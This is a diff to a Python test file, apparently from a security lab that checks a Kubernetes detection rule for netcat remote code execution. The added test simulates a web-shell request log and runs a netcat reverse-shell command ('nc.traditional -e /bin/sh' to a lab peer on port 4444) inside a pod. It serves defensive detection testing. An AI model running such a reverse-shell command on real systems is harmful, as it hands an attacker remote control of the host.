@@ -11,6 +11,7 @@ from tests.lab.hostile import words
 from tests.lab.places.cluster import Cluster, web_pod
 from tests.lab.places.internet import PEER, internet
 from tests.lab.places.node import Container, Node
+from tests.lab.scenarios.k8s_audit.test_pods import never_started
 from tests.lab.story import Tell
 
 RULE = "Netcat Remote Code Execution in Container"
@@ -60,6 +61,21 @@ def test_a_shell_goes_out_of_a_pod(cluster: Cluster, tell: Tell, tmp_path: Path)
             node.wait_until(lambda: not node.alive(shell), "the shell has ended")
             report.again("Is somebody connected?", hides="ESTAB")
             report.again("Freeze the shell", hides=" T ")
+
+
+def test_the_request_is_found_though_another_container_has_no_log(cluster: Cluster, tell: Tell) -> None:
+    cluster.namespace("shop")
+    manifest = web_pod("web-1")
+    manifest["spec"]["containers"][0]["command"] = ["sh", "-c", "echo GET /shell.php; sleep 86400"]
+    manifest["spec"]["containers"] += never_started()
+    viewer, node = cluster.laptop("viewer"), cluster.node
+    cluster.laptop().apply(manifest)
+    logs = "kubectl logs -n shop web-1 -c web || true"
+    node.wait_until(lambda: "GET" in viewer.run(logs), "it has a log", 40)
+    nc = f"nc.traditional -e /bin/sh {PEER} 4444"
+    report = tell(fields(node.container_of("shop", "web-1"), nc), node=node, cluster=viewer)
+    for _ in range(3):
+        report.again("How did they get in?", shows="GET /shell.php")
 
 
 def stdin(node: Node, pid: int) -> str:
